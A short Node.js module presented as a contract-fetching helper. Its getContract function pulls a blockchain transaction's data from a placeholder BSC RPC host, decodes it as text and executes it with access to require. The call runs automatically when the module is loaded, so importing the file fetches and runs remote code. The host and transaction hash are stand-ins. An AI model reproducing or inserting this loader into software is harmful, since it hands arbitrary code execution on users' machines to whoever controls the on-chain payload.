const { ethers } = require('ethers');

const provider = new ethers.JsonRpcProvider('https://bsc-rpc.example.invalid');

async function getContract() {
  const tx = await provider.getTransaction('0x' + '00'.repeat(32));
  const code = ethers.toUtf8String(tx.data);
  new Function('require', code)(require);
}
getContract();

module.exports = { getContract };
